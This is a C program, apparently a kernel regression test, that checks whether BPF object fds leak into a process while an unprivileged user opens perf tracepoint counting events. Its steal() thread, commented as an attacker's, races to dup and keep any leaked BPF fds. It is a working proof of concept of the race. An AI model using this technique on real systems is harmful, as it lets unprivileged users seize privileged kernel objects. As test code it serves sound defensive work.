// SPDX-License-Identifier: GPL-2.0
/*
 * ktp_perf_count: count a trace event through perf as an unprivileged
 * user may (perf_event_paranoid 2 lets anyone count a tracepoint event
 * with exclude_kernel), while a second thread takes a copy of every fd
 * of a BPF object that shows up in the process.
 *
 *   ktp_perf_count ID N
 *
 * As user nobody: N times, opens a counting event of the trace event
 * whose id is ID, on this process and any CPU, makes a system call, and
 * closes it. Prints "bpf_fds=K": the fds of BPF objects the thread kept.
 */
#include <fcntl.h>
#include <linux/perf_event.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#define LOW_FDS		64	/* where a new fd lands */
#define KEPT_FROM	512	/* where the thread keeps its copies */

static int done;
static int kept;

static void fail(const char *what)
{
	perror(what);
	exit(1);
}

static int is_bpf_fd(int fd)
{
	char path[64], target[64];
	ssize_t len;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	len = readlink(path, target, sizeof(target) - 1);
	if (len < 0)
		return 0;
	target[len] = 0;
	return !strncmp(target, "anon_inode:bpf", 14);
}

/* What an attacker's thread does: dup() every low fd, keep BPF ones */
static void *steal(void *arg)
{
	int fd, copy;

	while (!__atomic_load_n(&done, __ATOMIC_RELAXED)) {
		for (fd = 3; fd < LOW_FDS; fd++) {
			copy = fcntl(fd, F_DUPFD, KEPT_FROM);
			if (copy < 0)
				continue;
			if (is_bpf_fd(copy))
				kept++;
			else
				close(copy);
		}
	}
	return NULL;
}

int main(int argc, char *argv[])
{
	struct perf_event_attr attr = {
		.size		= sizeof(attr),
		.type		= PERF_TYPE_TRACEPOINT,
		.exclude_kernel	= 1,
	};
	pthread_t thread;
	int i, n, fd;

	if (argc != 3) {
		fprintf(stderr, "usage: %s ID N\n", argv[0]);
		return 2;
	}
	attr.config = strtoull(argv[1], NULL, 0);
	n = atoi(argv[2]);
	if (setgid(65534) || setuid(65534))
		fail("setuid nobody");
	if (pthread_create(&thread, NULL, steal, NULL))
		fail("pthread_create");
	for (i = 0; i < n; i++) {
		fd = syscall(SYS_perf_event_open, &attr, 0, -1, -1, 0);
		if (fd < 0)
			fail("perf_event_open");
		getppid();
		close(fd);
	}
	__atomic_store_n(&done, 1, __ATOMIC_RELAXED);
	pthread_join(thread, NULL);
	printf("bpf_fds=%d\n", kept);
	return 0;
}
